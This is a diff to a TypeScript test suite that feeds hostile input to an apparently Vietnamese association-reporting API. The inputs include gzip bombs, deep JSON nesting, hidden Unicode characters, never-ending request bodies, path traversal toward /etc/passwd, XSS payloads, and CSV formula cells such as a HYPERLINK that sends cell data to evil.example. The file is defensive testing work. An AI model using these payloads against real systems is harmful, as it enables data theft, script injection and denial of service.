@@ -2,6 +2,8 @@
 // oversized, hostile or odd input. Each case: the right 4xx, the field named, never a 5xx, and
 // the table and the bucket byte-identical before and after. Then the hostile text that is valid
 // (NFD, <script>, formula cells): stored as NFC, escaped or neutralised where it is shown.
+import { connect } from 'node:net';
+import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestStack, type TestStack } from '../support/embedded.ts';
 import { closeAndWait, report, seedCycle, THREE_TIER_ASSOCIATIONS, THREE_TIER_UNITS } from '../support/cycle.ts';
@@ -17,8 +19,10 @@ interface Case {
   who: Who;
   /** a JSON value (sent as application/json), or a raw body with its content type */
   json?: unknown;
-  body?: string;
+  body?: string | Uint8Array<ArrayBuffer>;
   contentType?: string | null;
+  /** more request headers (Content-Encoding, …) */
+  headers?: Record<string, string>;
   status: number;
   /** the field named in error.fields */
   field?: string;
@@ -41,6 +45,11 @@ const registry = (units: string, associations: string): Partial<Case> => ({ meth
 const submit = (json: unknown, extra: Partial<Case> = {}): Partial<Case> => ({ method: 'PUT', path: R, who: 'association', json, ...extra });
 const review = (json: unknown): Partial<Case> => ({ method: 'POST', path: `${R}/review`, who: 'reviewer', json });
 const open = (json: unknown): Partial<Case> => ({ method: 'POST', path: '/cycles', who: 'province', json });
+const gzippedText = (text: string): Partial<Case> => ({ body: gzipSync(text), contentType: 'application/json', headers: { 'content-encoding': 'gzip' } });
+const gzipped = (json: unknown): Partial<Case> => gzippedText(JSON.stringify(json));
+const nested = (depth: number) => `{"units":${'['.repeat(depth)}${']'.repeat(depth)},"associations":""}`;
+/** 20,001 communes under one district: past the 20,000-row units cap, small once gzipped. */
+const unitsPastCap = () => `${THREE_TIER_UNITS}${Array.from({ length: 20_001 }, (_, i) => `DB-X${i},Xã ${i},commune,DB-TG\n`).join('')}`;
 const c = (name: string, partial: Partial<Case>, status: number, expectation: Partial<Case> = {}): Case =>
   ({ name, method: 'GET', path: '/', who: 'none', ...partial, status, ...expectation }) as Case;
 
@@ -93,6 +102,17 @@ export const CORPUS: Case[] = [
   c('escape sequence in proposals', submit({ ...valid, proposals: '\u001b[31mđỏ' }), 422, { field: 'proposals' }),
   c('bidi override (RLO) in submittedBy', submit({ ...valid, submittedBy: 'Mai\u202Egnol' }), 422, { field: 'submittedBy' }),
   c('bidi isolate (LRI) in achievements', submit({ ...valid, achievements: '\u2066x\u2069' }), 422, { field: 'achievements' }),
+  c('zero-width space as the whole of submittedBy (not "required" text)', submit({ ...valid, submittedBy: '\u200B' }), 422, { field: 'submittedBy' }),
+  c('only combining marks as submittedBy', submit({ ...valid, submittedBy: '\u0301\u0301' }), 422, { field: 'submittedBy' }),
+  c('zero-width space inside achievements', submit({ ...valid, achievements: 'Tốt\u200Blắm' }), 422, { field: 'achievements' }),
+  c('zero-width joiner outside a word in limitations', submit({ ...valid, limitations: 'Thiếu \u200D kinh phí' }), 422, { field: 'limitations' }),
+  c('right-to-left mark in proposals', submit({ ...valid, proposals: 'Đề xuất\u200F 1' }), 422, { field: 'proposals' }),
+  c('word joiner in submittedBy', submit({ ...valid, submittedBy: 'Lò\u2060Thị Mai' }), 422, { field: 'submittedBy' }),
+  c('BOM inside submittedBy', submit({ ...valid, submittedBy: 'Lò Thị\uFEFF Mai' }), 422, { field: 'submittedBy' }),
+  c('tag characters (hidden ASCII) in achievements', submit({ ...valid, achievements: 'Tốt\u{E0069}\u{E0067}\u{E006E}' }), 422, { field: 'achievements' }),
+  c('line separator in submittedBy', submit({ ...valid, submittedBy: 'Lò Thị\u2028Mai' }), 422, { field: 'submittedBy' }),
+  c('paragraph separator in submittedBy', submit({ ...valid, submittedBy: 'Lò Thị\u2029Mai' }), 422, { field: 'submittedBy' }),
+  c('review: zero-width space in the comment', review({ decision: 'return', version: 1, comment: '\u200B' }), 422, { field: 'comment' }),
   c('unpaired surrogate in limitations', submit(undefined, { body: JSON.stringify({ ...valid, limitations: 'X' }).replace('"X"', '"\\ud800"'), contentType: 'application/json' }), 422, { field: 'limitations' }),
   // ---- the report as a form ----
   c('form: members as a decimal', submit(undefined, { body: form([['members', '12.5'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
@@ -101,7 +121,25 @@ export const CORPUS: Case[] = [
   c('form: members sent twice', submit(undefined, { body: form([...validForm, ['members', '5']]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
   c('form: nominate maybe', submit(undefined, { body: form([...validForm, ['nominate', 'maybe']]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'nominate' }),
   c('form: unknown field', submit(undefined, { body: form([...validForm, ['isAdmin', '1']]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'isAdmin' }),
+  c('form: members 1e2', submit(undefined, { body: form([['members', '1e2'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
+  c('form: members 0x10', submit(undefined, { body: form([['members', '0x10'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
+  c('form: members with a leading space', submit(undefined, { body: form([['members', ' 5'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
   c('form: broken percent-encoding', submit(undefined, { body: 'members=%E0%A4%A&selfRating=good&submittedBy=A', contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
+  // ---- the caller before the body: no token, no parse ----
+  c('no token, malformed JSON: 401, not 400', submit(undefined, { who: 'none', body: '{"members": 5,', contentType: 'application/json' }), 401),
+  c('no token, body over 256 KB: 401, not 413', submit({ ...valid, achievements: 'x'.repeat(262_145) }, { who: 'none' }), 401),
+  c('no token, gzip of 100,000 nested brackets to the registry', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'none', ...gzippedText(nested(100_000)) }, 401),
+  c('wrong role, gzip of nested brackets to the registry: 403', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'association', ...gzippedText(nested(100_000)) }, 403),
+  c('wrong role, wrong content type: 403, not 415', { method: 'POST', path: `${R}/review`, who: 'association', body: 'x', contentType: 'text/plain' }, 403),
+  // ---- encodings and depth ----
+  c('gzip on the report route', submit(undefined, gzipped(valid)), 415),
+  c('gzip on the review route', { method: 'POST', path: `${R}/review`, who: 'reviewer', ...gzipped({ decision: 'approve', version: 1, score: 90 }) }, 415),
+  c('gzip on opening a cycle', { method: 'POST', path: '/cycles', who: 'province', ...gzipped({ year: 2030 }) }, 415),
+  c('deflate on the registry', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', body: JSON.stringify({ units: THREE_TIER_UNITS, associations: THREE_TIER_ASSOCIATIONS }), contentType: 'application/json', headers: { 'content-encoding': 'deflate' } }, 415),
+  c('JSON nested 17 deep in a report', submit(undefined, { body: `{"members":${'['.repeat(17)}${']'.repeat(17)}}`, contentType: 'application/json' }), 400, { field: 'body' }),
+  c('JSON nested 100,000 deep, gzipped, to the registry', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzippedText(nested(100_000)) }, 400, { field: 'body' }),
+  c('gzip that inflates past 16 MB', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: 'x'.repeat(17 * 1024 * 1024), associations: '' }) }, 413),
+  c('corrupt gzip', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({}), body: Buffer.from('1f8b0800000000000003ffff', 'hex') }, 400),
   // ---- codes and years in the path ----
   c('association code with path traversal', { method: 'GET', path: `/cycles/${Y}/reports/..%2F..%2Fetc%2Fpasswd`, who: 'province' }, 404, { field: 'association' }),
   c('association code with a dot segment', { method: 'PUT', path: `/cycles/${Y}/reports/..`, who: 'association', json: valid }, 404),
@@ -164,6 +202,12 @@ export const CORPUS: Case[] = [
   c('registry: special neither true nor false', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội Sai,DB,yes,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
   c('registry: association at an unknown unit', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội Sai,NOWHERE,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
   c('registry: control character in a name', registry(THREE_TIER_UNITS, associationsWith('BAD,"Hội\tSai",DB,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
+  c('registry: zero-width space in an association name', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội\u200BSai,DB,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
+  c('registry: right-to-left override in a unit name', registry(unitsWith('DB-X,Xã \u202Egnol,commune,DB-TG'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
+  c('registry: line separator in a unit name', registry(unitsWith('DB-X,Xã\u2028X,commune,DB-TG'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
+  c('registry: an 8 MB name, gzipped', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: THREE_TIER_UNITS, associations: associationsWith(`BIG,"${'x'.repeat(8 * 1024 * 1024)}",DB,false,2020-01-01,`) }) }, 422, { problem: { file: 'associations', line: 9 } }),
+  c('registry: 500,000 bad rows, gzipped: stops at the 200th problem', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: THREE_TIER_UNITS, associations: `${THREE_TIER_ASSOCIATIONS}${'B,H,NOPE,false,2020-01-01,\n'.repeat(500_000)}` }) }, 422, { problem: { file: 'associations', line: 0 } }),
+  c('registry: one unit past the 20,000-row cap, gzipped', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: unitsPastCap(), associations: THREE_TIER_ASSOCIATIONS }) }, 422, { problem: { file: 'units', line: 20_002 } }),
   c('registry: dropping an association with a report', registry(THREE_TIER_UNITS, THREE_TIER_ASSOCIATIONS.split('\n').filter((l) => !l.startsWith('CH-NCT')).join('\n')), 409, { field: 'associations' }),
   // ---- listing: cursors, filters ----
   c('list: cursor of garbage', { method: 'GET', path: `/cycles/${Y}/reports?cursor=%25%25%25`, who: 'province' }, 422, { field: 'cursor' }),
@@ -174,9 +218,15 @@ export const CORPUS: Case[] = [
   c('list: limit 0', { method: 'GET', path: `/cycles/${Y}/reports?limit=0`, who: 'province' }, 422, { field: 'limit' }),
   c('list: limit past 200', { method: 'GET', path: `/cycles/${Y}/reports?limit=201`, who: 'province' }, 422, { field: 'limit' }),
   c('list: limit not a number', { method: 'GET', path: `/cycles/${Y}/reports?limit=ten`, who: 'province' }, 422, { field: 'limit' }),
+  c('list: limit 1e2', { method: 'GET', path: `/cycles/${Y}/reports?limit=1e2`, who: 'province' }, 422, { field: 'limit' }),
+  c('list: limit 0x10', { method: 'GET', path: `/cycles/${Y}/reports?limit=0x10`, who: 'province' }, 422, { field: 'limit' }),
+  c('list: limit with a leading space', { method: 'GET', path: `/cycles/${Y}/reports?limit=%205`, who: 'province' }, 422, { field: 'limit' }),
+  c('list: limit 5.0', { method: 'GET', path: `/cycles/${Y}/reports?limit=5.0`, who: 'province' }, 422, { field: 'limit' }),
   c('list: unknown unit', { method: 'GET', path: `/cycles/${Y}/reports?unit=NOPE`, who: 'province' }, 404, { field: 'unit' }),
   // ---- what was published ----
   c('published: revision not a number', { method: 'GET', path: '/cycles/2023/summary?revision=abc', who: 'province' }, 422, { field: 'revision' }),
+  c('published: revision 1e0', { method: 'GET', path: '/cycles/2023/summary?revision=1e0', who: 'province' }, 422, { field: 'revision' }),
+  c('published: revision 0x1', { method: 'GET', path: '/cycles/2023/summary?revision=0x1', who: 'province' }, 422, { field: 'revision' }),
   c('published: revision 0', { method: 'GET', path: '/cycles/2023/summary?revision=0', who: 'province' }, 422, { field: 'revision' }),
   c('published: revision not published', { method: 'GET', path: '/cycles/2023/report.pdf?revision=99', who: 'province' }, 404, { field: 'revision' }),
   c('published: unknown format', { method: 'GET', path: '/cycles/2023/commendations?format=xlsx', who: 'province' }, 422, { field: 'format' }),
@@ -202,6 +252,8 @@ DB-EQ,"=HYPERLINK(""http://evil.example/?x=""&A1;""Bấm"")",DB,false,1990-01-01
 DB-PL,+Hội Cựu giáo chức <script>alert(1)</script>,DB,false,1990-01-01,
 MN-MI,-2+3 Hội Khuyến học,DB-MN,false,1990-01-01,
 CH-AT,@SUM(1+1) Hội Người cao tuổi,DB-MN-CH,false,1990-01-01,
+-1-1,＝SUM(1+1) Hội Chữ thập đỏ,DB,false,1990-01-01,
+FW-AT,＠Hội Luật gia,DB,false,1990-01-01,
 `;
     const province = await seedCycle(stack, {
       year: 2023,
@@ -209,7 +261,7 @@ CH-AT,@SUM(1+1) Hội Người cao tuổi,DB-MN-CH,false,1990-01-01,
       units: THREE_TIER_UNITS.replace('Huyện Mường Nhé', '=Huyện Mường Nhé'),
       associations: hostile,
       config: { reportDate: '2023-12-18', commendation: { quotaPercent: 100, minScore: 0, awards: { province: '@Bằng khen', district: '-Giấy khen', commune: '+Giấy khen' } } },
-      reports: ['DB-EQ', 'DB-PL', 'MN-MI', 'CH-AT'].map((association, i) => ({ association, members: 100 + i, score: 95 - i, extra: { achievements: '<img src=x onerror=alert(1)> Thành tích' } })),
+      reports: ['DB-EQ', 'DB-PL', 'MN-MI', 'CH-AT', '-1-1', 'FW-AT'].map((association, i) => ({ association, members: 100 + i, score: 95 - i, extra: { achievements: '<img src=x onerror=alert(1)> Thành tích' } })),
     });
     expect((await closeAndWait(stack, 2023, province)).status).toBe('published');
     // 2024: open, one submitted report to review.
@@ -242,6 +294,7 @@ CH-AT,@SUM(1+1) Hội Người cao tuổi,DB-MN-CH,false,1990-01-01,
     if (k.json !== undefined) body = JSON.stringify(k.json);
     const contentType = k.contentType === null ? undefined : (k.contentType ?? (body !== undefined ? 'application/json' : undefined));
     if (contentType) headers['content-type'] = contentType;
+    Object.assign(headers, k.headers);
     const token = tokens[k.who];
     if (token) headers.authorization = `Bearer ${token}`;
     const response = await fetch(`${stack.url}${k.path}`, { method: k.method, headers, body: k.method === 'GET' ? undefined : (body ?? undefined), redirect: 'manual' });
@@ -258,6 +311,86 @@ CH-AT,@SUM(1+1) Hội Người cao tuổi,DB-MN-CH,false,1990-01-01,
     const after = await dumpStores();
     if (JSON.stringify(after) !== JSON.stringify(baseline)) outcomes.changed++;
     expect(after).toEqual(baseline);
+  });
+
+  // ---- the caller before the body, on the wire: a body that never ends ----
+
+  /**
+   * Sends a request head and the start of a body that never ends (optionally more of it, every
+   * few milliseconds, for ever). Resolves once the server has answered and closed the
+   * connection; if the server waited for the body, this would never resolve.
+   */
+  function bodyThatNeverEnds(head: string[], first: Buffer, keepSending = false): Promise<string> {
+    const url = new URL(stack.url);
+    return new Promise((resolve) => {
+      const socket = connect(Number(url.port), url.hostname);
+      let answer = '';
+      let more: NodeJS.Timeout | undefined;
+      socket.on('connect', () => {
+        socket.write(`${head.join('\r\n')}\r\n\r\n`);
+        socket.write(first);
+        if (keepSending) more = setInterval(() => socket.writable && socket.write(Buffer.alloc(16 * 1024, 0x61)), 20);
+      });
+      socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
+      // Writing into a connection the server has cut may fail (EPIPE, ECONNRESET): the answer
+      // read before that is what counts.
+      socket.on('error', () => undefined);
+      socket.on('close', () => {
+        clearInterval(more);
+        resolve(answer);
+      });
+    });
+  }
+
+  const statusOf = (answer: string) => /^HTTP\/1\.1 (\d{3}) /.exec(answer)?.[1];
+  const tally = (status: number) => {
+    outcomes.tried++;
+    if (!(status < 500)) outcomes.fivexx++;
+    else if (status >= 400) outcomes.fourxx++;
+  };
+
+  it('answers 401 to a caller with no token whose body never ends, and closes the connection', async () => {
+    const answer = await bodyThatNeverEnds(
+      [`PUT ${R} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Accept-Language: en', 'Content-Length: 10000000'],
+      Buffer.from('{"members":120,"achievements":"'),
+    );
+    tally(Number(statusOf(answer)));
+    expect(statusOf(answer), answer.slice(0, 300)).toBe('401');
+    expect(answer).toContain('"code":"unauthorized"');
+    expect(await dumpStores()).toEqual(baseline);
+  });
+
+  it('answers 403 to a token of the wrong role whose chunked gzip body never ends, and closes the connection', async () => {
+    const answer = await bodyThatNeverEnds(
+      [`PUT /cycles/${Y}/registry HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Content-Encoding: gzip', 'Transfer-Encoding: chunked', `Authorization: Bearer ${tokens.association}`],
+      Buffer.from('4000\r\n'),
+      true,
+    );
+    tally(Number(statusOf(answer)));
+    expect(statusOf(answer), answer.slice(0, 300)).toBe('403');
+    expect(await dumpStores()).toEqual(baseline);
+  });
+
+  it('stops reading at 256 KB as sent: 413 to an allowed caller whose body never ends, and closes the connection', async () => {
+    const answer = await bodyThatNeverEnds(
+      [`PUT ${R} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Transfer-Encoding: chunked', `Authorization: Bearer ${tokens.association}`],
+      Buffer.from(`40000\r\n${'a'.repeat(0x40000)}\r\n4000\r\n`),
+      true,
+    );
+    tally(Number(statusOf(answer)));
+    expect(statusOf(answer), answer.slice(0, 300)).toBe('413');
+    expect(await dumpStores()).toEqual(baseline);
+    // The server is still answering.
+    expect((await stack.request('GET', '/health')).status).toBe(200);
+  });
+
+  it('refuses a declared Content-Length over 256 KB before reading it', async () => {
+    const answer = await bodyThatNeverEnds(
+      [`PUT ${R} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Content-Length: 262145', `Authorization: Bearer ${tokens.association}`],
+      Buffer.from('{'),
+    );
+    tally(Number(statusOf(answer)));
+    expect(statusOf(answer), answer.slice(0, 300)).toBe('413');
   });
 
   // ---- hostile text that is valid: accepted, then stored, shown and exported harmlessly ----
@@ -323,15 +456,15 @@ CH-AT,@SUM(1+1) Hội Người cao tuổi,DB-MN-CH,false,1990-01-01,
     }
   });
 
-  it('neutralises formula cells (= + - @) in the commended CSV', async () => {
+  it('neutralises formula cells (= + - @, full-width ＝＋－＠) in every column of the commended CSV, codes included', async () => {
     const { parse } = await import('csv-parse/sync');
     const csv = await stack.request('GET', '/cycles/2023/commendations?format=csv', { token: tokens.province });
     expect(csv.status).toBe(200);
     const rows = parse(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
-    expect(rows).toHaveLength(5);
-    for (const row of rows.slice(1)) for (const cell of row) expect(cell, row.join(' | ')).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows).toHaveLength(7);
+    for (const row of rows.slice(1)) for (const cell of row) expect(cell, row.join(' | ')).not.toMatch(/^[=+\-@＝＋－＠\s\p{Cc}\p{Cf}]/u);
     const cells = rows.slice(1).flat();
-    for (const expected of ["'=HYPERLINK(", "'+Hội Cựu giáo chức <script>", "'-2+3 Hội Khuyến học", "'@SUM(1+1)", "'=Huyện Mường Nhé", "'@Bằng khen", "'-Giấy khen", "'+Giấy khen"]) {
+    for (const expected of ["'=HYPERLINK(", "'+Hội Cựu giáo chức <script>", "'-2+3 Hội Khuyến học", "'@SUM(1+1)", "'=Huyện Mường Nhé", "'@Bằng khen", "'-Giấy khen", "'+Giấy khen", "'-1-1", "'＝SUM(1+1) Hội", "'＠Hội Luật gia"]) {
       expect(cells.some((cell) => cell.startsWith(expected)), expected).toBe(true);
     }
     // The JSON list keeps the names as they are: neutralising is the spreadsheet's concern only.
